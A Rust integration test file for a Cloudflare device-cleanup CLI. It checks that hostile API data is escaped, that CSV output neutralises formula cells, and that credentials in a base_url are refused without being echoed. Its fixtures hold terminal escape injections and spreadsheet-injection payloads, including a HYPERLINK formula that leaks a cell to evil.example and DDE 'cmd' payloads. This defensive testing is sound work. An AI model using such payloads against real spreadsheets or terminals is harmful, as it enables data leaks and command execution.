//! Output and input hygiene, end to end through the real binary: API data that carries
//! terminal escapes, line breaks or spreadsheet formulas cannot forge rows or drive a terminal
//! or a spreadsheet; options that make no sense are refused; a `base_url` with credentials is
//! refused without echoing them.

mod common;

use std::process::{Command, Output};

use chrono::Utc;
use common::{days_ago, Env, Settings};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use zt_janitor::fake::{FakeOptions, FakeRegistration};

/// A device name and an email that try everything: set the terminal title (OSC), clear the
/// screen, forge a new row with CR/LF and a tab, a C1 CSI, DEL, and a bidi override.
const HOSTILE_DEVICE: &str =
    "kiosk\x1b]0;pwned\x07\r\nrevoked   delete  00000000-0000-4000-8000-000000000000\tforged\x1b[2J";
const HOSTILE_EMAIL: &str = "mallory\r\n\u{9b}31m\x7f\u{202e}moc.elpmaxe@example.com";

fn opts() -> FakeOptions {
    FakeOptions {
        registrations: 40,
        seed: 23,
        ..FakeOptions::default()
    }
}

fn plan_mode() -> Settings<'static> {
    Settings {
        mode: "plan",
        ..Settings::default()
    }
}

fn stdout(out: &Output) -> String {
    assert!(
        out.status.success(),
        "exit {:?}: {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout.clone()).expect("stdout is UTF-8")
}

/// Characters that must never reach a terminal raw: every control character but the line
/// end, and the Unicode bidi embeddings, overrides and isolates.
fn forbidden(c: char) -> bool {
    (c.is_control() && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn assert_clean(what: &str, text: &str) {
    let raw: Vec<(usize, char)> = text.char_indices().filter(|(_, c)| forbidden(*c)).collect();
    assert!(
        raw.is_empty(),
        "{what}: raw control characters {raw:?} in:\n{text}"
    );
}

/// The rows of the first table in `text`: the lines after the header line (which starts with
/// `header`) up to the first empty line.
fn table_rows<'t>(text: &'t str, header: &str) -> Vec<&'t str> {
    let mut lines = text.lines().skip_while(|l| !l.starts_with(header));
    assert!(
        lines.next().is_some(),
        "no table with header {header:?} in:\n{text}"
    );
    lines.take_while(|l| !l.is_empty()).collect()
}

fn insert_hostile(env: &Env) -> String {
    env.fake.insert(&FakeRegistration {
        user_email: Some(HOSTILE_EMAIL.into()),
        device_name: HOSTILE_DEVICE.into(),
        ..FakeRegistration::new(
            "cccccccc-0000-4000-8000-000000000001",
            days_ago(Utc::now(), 400),
        )
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn plan_once_and_audit_text_escape_control_characters_from_api_data() {
    let env = Env::start(opts(), plan_mode()).await;
    let hostile = insert_hostile(&env);

    let plan_json: serde_json::Value =
        serde_json::from_str(&stdout(&env.binary(&["plan", "--output", "json"]))).unwrap();
    let candidates = plan_json["candidates"].as_array().unwrap();
    let json_device = candidates
        .iter()
        .find(|c| c["id"] == hostile.as_str())
        .map(|c| c["device_name"].as_str().unwrap().to_owned());
    assert_eq!(
        json_device.as_deref(),
        Some(HOSTILE_DEVICE),
        "JSON stays exact"
    );

    for (what, text) in [
        ("plan", stdout(&env.binary(&["plan"]))),
        ("once", stdout(&env.binary(&["once"]))),
    ] {
        assert_clean(what, &text);
        let rows = table_rows(&text, "RULE");
        assert_eq!(
            rows.len(),
            candidates.len(),
            "{what}: one row per candidate:\n{text}"
        );
        let hostile_rows: Vec<&&str> = rows.iter().filter(|r| r.contains(&hostile)).collect();
        assert_eq!(hostile_rows.len(), 1, "{what}:\n{text}");
        let row = hostile_rows[0];
        assert!(
            row.contains(r"kiosk\u{1b}]0;pwned\u{7}\u{d}\u{a}revoked"),
            "{what}: {row}"
        );
        assert!(row.contains(r"\u{9}forged\u{1b}[2J"), "{what}: {row}");
        assert!(
            row.contains(r"mallory\u{d}\u{a}\u{9b}31m\u{7f}\u{202e}moc"),
            "{what}: {row}"
        );
        assert_eq!(
            text.matches("00000000-0000-4000-8000-000000000000").count(),
            1,
            "{what}: the forged id appears only inside the escaped cell"
        );
    }

    let actions = stdout(&env.binary(&["audit", "actions", "--limit", "1000"]));
    assert_clean("audit actions", &actions);
    let rows = table_rows(&actions, "RUN");
    assert_eq!(rows.len(), candidates.len(), "audit actions:\n{actions}");
    assert!(actions.contains(r"pwned\u{7}"), "{actions}");
}

/// A listing answered with an error envelope whose message is hostile: the run's reason
/// carries it into `once`, `audit runs` and the error line of `plan`.
async fn hostile_api(message: &str) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let body = serde_json::json!({
        "success": false,
        "errors": [{"code": 1000, "message": message}],
        "messages": [],
        "result": null,
    })
    .to_string();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let body = body.clone();
            tokio::spawn(async move {
                let mut request = Vec::new();
                let mut buf = [0u8; 4096];
                while !request.windows(4).any(|w| w == b"\r\n\r\n") {
                    match socket.read(&mut buf).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => request.extend_from_slice(&buf[..n]),
                    }
                }
                let response = format!(
                    "HTTP/1.1 400 Bad Request\r\ncontent-type: application/json\r\n\
                     content-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = socket.write_all(response.as_bytes()).await;
                let _ = socket.shutdown().await;
            });
        }
    });
    format!("http://{addr}/client/v4")
}

#[tokio::test(flavor = "multi_thread")]
async fn cloudflare_error_messages_are_escaped_in_every_text_output() {
    let env = Env::start(opts(), plan_mode()).await;
    let base =
        hostile_api("bad request\x1b]0;pwned\x07\r\nRun 99 (apply mode): applied\u{202e}").await;
    let config = std::fs::read_to_string(&env.config_path)
        .unwrap()
        .replace(&env.fake.base_url(), &base);
    std::fs::write(&env.config_path, config).unwrap();

    let once = env.binary(&["once"]);
    assert_eq!(
        once.status.code(),
        Some(4),
        "the run aborts (exit 4 since issue 17; 2 is a usage error)"
    );
    let text = String::from_utf8(once.stdout).unwrap();
    assert_clean("once", &text);
    assert!(
        text.contains(r"bad request\u{1b}]0;pwned\u{7}\u{d}\u{a}Run 99"),
        "{text}"
    );
    assert_eq!(
        text.lines().filter(|l| l.starts_with("Run ")).count(),
        1,
        "{text}"
    );

    let runs = stdout(&env.binary(&["audit", "runs"]));
    assert_clean("audit runs", &runs);
    assert_eq!(table_rows(&runs, "RUN").len(), 1, "{runs}");
    assert!(runs.contains(r"pwned\u{7}"), "{runs}");

    let plan = env.binary(&["plan"]);
    assert_eq!(plan.status.code(), Some(1));
    let stderr = String::from_utf8(plan.stderr).unwrap();
    let error_lines: Vec<&str> = stderr.lines().filter(|l| l.starts_with("error:")).collect();
    assert_eq!(error_lines.len(), 1, "{stderr}");
    assert_clean("plan error line", error_lines[0]);
    assert!(
        error_lines[0].contains(r"pwned\u{7}\u{d}\u{a}Run 99"),
        "{stderr}"
    );
}

const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
];

fn csv_column(text: &str, column: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let index = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == column)
        .unwrap_or_else(|| panic!("no column {column} in:\n{text}"));
    reader
        .records()
        .map(|r| r.unwrap().get(index).unwrap().to_owned())
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn csv_output_neutralises_formula_cells() {
    let env = Env::start(opts(), plan_mode()).await;
    for (i, formula) in FORMULAS.iter().enumerate() {
        env.fake.insert(&FakeRegistration {
            device_name: (*formula).into(),
            ..FakeRegistration::new(
                format!("dddddddd-0000-4000-8000-00000000000{i}"),
                days_ago(Utc::now(), 300),
            )
        });
    }
    stdout(&env.binary(&["once"]));

    for (what, text) in [
        (
            "audit actions",
            stdout(&env.binary(&["audit", "actions", "--output", "csv", "--limit", "1000"])),
        ),
        ("plan", stdout(&env.binary(&["plan", "--output", "csv"]))),
    ] {
        let devices = csv_column(&text, "device_name");
        for formula in FORMULAS {
            assert!(
                devices.contains(&format!("'{formula}")),
                "{what}: {formula} not neutralised in:\n{text}"
            );
            assert!(
                !devices.iter().any(|d| d == formula),
                "{what}: {formula} raw"
            );
        }
        let plain = devices
            .iter()
            .filter(|d| d.starts_with("laptop") || d.starts_with("desk"));
        assert!(
            plain.count() > 0,
            "{what}: ordinary names stay as they are:\n{text}"
        );
        for cell in devices {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: {cell:?}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn plan_csv_has_one_row_per_candidate_and_once_refuses_csv() {
    let env = Env::start(opts(), plan_mode()).await;
    insert_hostile(&env);
    let plan_json: serde_json::Value =
        serde_json::from_str(&stdout(&env.binary(&["plan", "--output", "json"]))).unwrap();
    // CSV has a row for every match, protected ones too; JSON keeps those in `excluded`.
    let mut expected: Vec<String> = ["candidates", "excluded"]
        .iter()
        .flat_map(|key| plan_json[key].as_array().unwrap())
        .map(|c| c["id"].as_str().unwrap().to_owned())
        .collect();
    let csv = stdout(&env.binary(&["plan", "--output", "csv"]));
    let mut ids = csv_column(&csv, "id");
    expected.sort();
    ids.sort();
    assert_eq!(ids, expected, "{csv}");
    // CSV quoting keeps the hostile name in one cell, exactly.
    assert!(csv_column(&csv, "device_name").contains(&HOSTILE_DEVICE.to_owned()));

    let once = env.binary(&["once", "--output", "csv"]);
    assert_eq!(once.status.code(), Some(2), "a usage error");
    let stderr = String::from_utf8_lossy(&once.stderr);
    assert!(
        stderr.contains("'csv'") && stderr.contains("text, json"),
        "{stderr}"
    );
    assert!(once.stdout.is_empty());
    assert!(!env.db_path.exists(), "nothing ran");
}

#[tokio::test(flavor = "multi_thread")]
async fn audit_limit_must_be_between_one_and_a_million() {
    let env = Env::start(opts(), plan_mode()).await;
    env.once().await;
    env.once().await;
    for limit in ["-1", "0", "1000001", "99999999999999999999", "ten"] {
        for query in ["runs", "actions"] {
            let out = env.binary(&["audit", query, &format!("--limit={limit}")]);
            assert_eq!(out.status.code(), Some(2), "--limit={limit} is refused");
            assert!(out.stdout.is_empty(), "--limit={limit}");
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert!(stderr.contains("--limit"), "{stderr}");
        }
    }
    let out = env.binary(&["audit", "runs", "--limit=-1"]);
    assert!(String::from_utf8_lossy(&out.stderr).contains("1..=1000000"));
    let runs = stdout(&env.binary(&["audit", "runs", "--limit=1"]));
    assert_eq!(table_rows(&runs, "RUN").len(), 1, "{runs}");
    let runs = stdout(&env.binary(&["audit", "runs"]));
    assert_eq!(table_rows(&runs, "RUN").len(), 2, "{runs}");
}

#[test]
fn check_config_refuses_credentials_in_base_url_without_echoing_them() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("config.toml");
    std::fs::write(
        &path,
        "[cloudflare]\naccount_id = \"0123456789abcdef0123456789abcdef\"\n\
         base_url = \"https://admin:secret@api.example.com/client/v4\"\n\n\
         [[rule]]\nname = \"r\"\nresource = \"device_registration\"\naction = \"delete\"\n\
         idle_days = 90\n",
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_zt-janitor"))
        .args(["check-config", "--config"])
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !stdout.contains("secret") && !stderr.contains("secret"),
        "{stdout}{stderr}"
    );
    assert!(stderr.contains(":3:12: [cloudflare] base_url"), "{stderr}");
    assert!(stderr.contains("user name or password"), "{stderr}");
}
